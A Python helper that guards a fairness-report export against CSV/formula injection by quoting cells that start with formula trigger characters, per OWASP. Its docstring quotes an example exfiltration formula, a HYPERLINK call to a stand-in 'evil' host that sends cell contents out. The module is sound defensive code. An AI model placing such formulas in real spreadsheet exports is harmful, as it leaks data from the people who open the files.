"""Text cells that a spreadsheet will not run as formulas (OWASP "CSV Injection").

Group names, attribute names and scopes in a fairness export come from uploaded decision logs,
so a cell such as ``=HYPERLINK("http://evil/?"&A1)`` would run when an HR admin opens the file
in Excel or LibreOffice. OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return gets a leading single quote, which spreadsheets show as text.
"""

import re
from typing import Final

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
# A plain number such as "-0.25" cannot run; quoting it would turn figures into text.
_PLAIN_NUMBER: Final = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def spreadsheet_safe_cell(value: str) -> str:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
